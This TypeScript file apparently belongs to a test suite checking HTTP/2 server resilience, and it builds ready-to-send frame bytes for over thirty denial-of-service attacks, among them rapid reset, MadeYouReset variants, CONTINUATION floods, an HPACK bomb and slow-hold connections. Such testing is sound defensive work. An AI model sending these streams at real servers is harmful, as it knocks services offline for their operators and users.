/**
 * Ways to make an HTTP/2 server work or remember for nothing, as the bytes that one connection sends. Every connection of
 * an attack sends the same ones, so that the attacker's own work is a copy.
 */
import {
  type Bytes,
  block,
  continuation,
  data,
  FLAG,
  FRAME,
  frame,
  goAway,
  headers,
  PREFACE,
  ping,
  priority,
  reset,
  SETTING,
  settings,
  settingsAck,
  text,
  uint32,
  windowUpdate,
} from "../http2-frames.ts";

type Fields = readonly (readonly [name: string, value: string])[];

/** What is attacked. */
export interface AttackTarget {
  readonly authority: string;
  /** Answered with little. */
  readonly path: string;
  /** Answered with a megabyte or so. */
  readonly largePath: string;
}

/** One attack. */
export interface Attack {
  readonly name: string;
  /**
   * `flood`: the server must end each connection, since what is sent is beyond a budget. `hold`: little is sent; the server
   * must neither grow beyond its windows nor wait for ever.
   */
  readonly kind: "flood" | "hold";
  /** Reads nothing that the server sends. */
  readonly isDeaf?: boolean;
  /** Sent one after the other, with a pause in between that lets the server look at each by itself. */
  readonly pieces: (target: AttackTarget) => readonly Buffer[];
}

/** More than any budget allows at once and over the seconds of a test. */
const ROUNDS = 4096;
/** Streams that a server allows at once. */
const WAVE_STREAMS = 128;
const OPEN = FLAG.END_HEADERS;
const id = (i: number) => 2 * i + 1;

function get({ authority, path }: AttackTarget): Fields {
  return [
    [":method", "GET"],
    [":scheme", "http"],
    [":path", path],
    [":authority", authority],
  ];
}
const post = (target: AttackTarget): Fields => [[":method", "POST"], ...get(target).slice(1)];
const large = (target: AttackTarget): Fields => get({ ...target, path: target.largePath });

const joined = (parts: readonly Bytes[]) => Buffer.concat(parts.map((part) => Uint8Array.from(part)));
const opening = (...pairs: readonly (readonly [number, number])[]) => [
  ...text(PREFACE),
  ...settings(...pairs),
  ...settingsAck(),
];

/** The preface, then `round` many times. */
function flood(
  name: string,
  round: (i: number, target: AttackTarget) => Bytes,
  before: (target: AttackTarget) => Bytes = () => [],
  rounds = ROUNDS,
): Attack {
  const bytes = (target: AttackTarget) =>
    joined([opening(), before(target), ...Array.from({ length: rounds }, (_, i) => round(i, target))]);
  return { name, kind: "flood", pieces: (target) => [bytes(target)] };
}

/** As many streams as are allowed, and when they have been begun the end of all of them, again and again. */
function wave(name: string, end: (streamId: number) => Bytes, what: (target: AttackTarget) => Fields = get): Attack {
  const pieces = (target: AttackTarget) =>
    Array.from({ length: ROUNDS / WAVE_STREAMS }, (_, at) => at * WAVE_STREAMS).flatMap((from) => {
      const ids = Array.from({ length: WAVE_STREAMS }, (_, i) => id(from + i));
      return [joined(ids.map((one) => headers(one, what(target)))), joined(ids.map(end))];
    });
  return { name, kind: "flood", pieces: (target) => [joined([opening()]), ...pieces(target)] };
}

function hold(name: string, parts: (target: AttackTarget) => readonly Bytes[], isDeaf = false): Attack {
  return { name, kind: "hold", isDeaf, pieces: (target) => [joined(parts(target))] };
}

const streams = (count: number, one: (streamId: number) => Bytes): Bytes[] =>
  Array.from({ length: count }, (_, i) => one(id(i)));

// One entry of nearly all of a table of 4096 bytes, and a block that refers to it again and again.
const BOMB_ENTRY = [0x40, 1, 0x61, 0x7f, 0xd9, 0x1e, ...new Array<number>(4056).fill(0x62)];
const bomb = (target: AttackTarget, references: number) => [
  ...block(get(target)),
  ...new Array<number>(references).fill(0xbe),
];

export const ATTACKS: readonly Attack[] = [
  flood("rapid reset", (i, target) => [...headers(id(i), get(target)), ...reset(id(i))]),
  flood(
    "rapid reset of bodies",
    (i, target) => [...headers(id(i), post(target), OPEN), ...data(id(i), 1024, 0), ...reset(id(i))],
    () => [],
    1024,
  ),
  wave("rapid reset of what was begun", (streamId) => reset(streamId)),
  wave("rapid reset of long answers", (streamId) => reset(streamId), large),
  wave("MadeYouReset of what was begun", (streamId) => windowUpdate(streamId, 0)),
  flood("MadeYouReset by a window of nothing", (i, target) => [
    ...headers(id(i), get(target)),
    ...windowUpdate(id(i), 0),
  ]),
  flood("MadeYouReset by a window too large", (i, target) => [
    ...headers(id(i), get(target)),
    ...windowUpdate(id(i), 2 ** 31 - 1),
  ]),
  flood("MadeYouReset by content behind the end", (i, target) => [...headers(id(i), get(target)), ...data(id(i), "x")]),
  flood("MadeYouReset by PRIORITY of a wrong size", (i, target) => [
    ...headers(id(i), get(target)),
    ...frame(FRAME.PRIORITY, 0, id(i), uint32(0)),
  ]),
  flood("malformed requests", (i, target) => headers(id(i), [...get(target), ["connection", "close"]])),
  flood("streams above the limit", (i, target) => headers(id(i), post(target), OPEN)),
  flood(
    "CONTINUATION without end",
    () => continuation(1, block([["x-more", "y".repeat(64)]]), 0),
    (target) => frame(FRAME.HEADERS, 0, 1, block(get(target))),
  ),
  flood(
    "CONTINUATION of nothing",
    () => continuation(1, [], 0),
    (target) => frame(FRAME.HEADERS, 0, 1, block(get(target))),
  ),
  flood("SETTINGS", () => settings([SETTING.INITIAL_WINDOW_SIZE, 65_535])),
  flood("SETTINGS that change every window", (i) => settings([SETTING.INITIAL_WINDOW_SIZE, 1 + (i % 2) * 2 ** 30])),
  flood("acknowledgements of nothing", () => settingsAck()),
  flood("PING", () => ping()),
  flood("GOAWAY", () => goAway(0)),
  flood(
    "DATA without content",
    () => data(1, "", 0),
    (target) => headers(1, post(target), OPEN),
  ),
  flood(
    "DATA of padding alone",
    () => frame(FRAME.DATA, FLAG.PADDED, 1, [8, ...new Array<number>(8).fill(0)]),
    (target) => headers(1, post(target), OPEN),
  ),
  flood("PRIORITY", (i) => priority(id(i))),
  flood("frames of no known type", () => frame(0x42, 0, 0, text("12345678"))),
  flood("WINDOW_UPDATE", () => windowUpdate(0, 1)),
  flood(
    "windows of one byte each",
    () => windowUpdate(1, 1),
    (target) => [...settings([SETTING.INITIAL_WINDOW_SIZE, 0]), ...headers(1, large(target))],
  ),
  flood(
    "HPACK bomb",
    (i, target) => frame(FRAME.HEADERS, OPEN | FLAG.END_STREAM, id(i + 1), bomb(target, 200)),
    (target) => frame(FRAME.HEADERS, OPEN | FLAG.END_STREAM, 1, [...block(get(target)), ...BOMB_ENTRY]),
  ),
  flood(
    "lists beyond the limit",
    (i, target) => frame(FRAME.HEADERS, OPEN | FLAG.END_STREAM, id(i), block([...get(target), ...crumbs(300)])),
    () => [],
    256,
  ),
  hold("a preface that never comes", () => [text("PRI * HTTP/2.0\r\n")]),
  hold("a header block that never ends", (target) => [
    opening(),
    frame(FRAME.HEADERS, 0, 1, block(get(target)).slice(0, 20)),
  ]),
  hold("a frame that never ends", (target) => [
    opening(),
    headers(1, post(target), OPEN),
    data(1, 16_000, 0).slice(0, 8000),
  ]),
  hold("bodies that never come", (target) => [
    opening(),
    ...streams(100, (streamId) => headers(streamId, post(target), OPEN)),
  ]),
  hold("windows that never open", (target) => [
    opening([SETTING.INITIAL_WINDOW_SIZE, 0]),
    ...streams(100, (streamId) => headers(streamId, large(target))),
  ]),
  hold(
    "answers that nobody reads",
    (target) => [
      opening([SETTING.INITIAL_WINDOW_SIZE, 2 ** 31 - 1]),
      windowUpdate(0, 2 ** 31 - 1 - 65_535),
      ...streams(100, (streamId) => headers(streamId, large(target))),
    ],
    true,
  ),
  hold("replies that nobody reads", () => [opening(), ...Array.from({ length: ROUNDS }, () => ping())], true),
];

function crumbs(count: number): Fields {
  return Array.from({ length: count }, (_, i) => ["cookie", `c${i}=1`] as const);
}
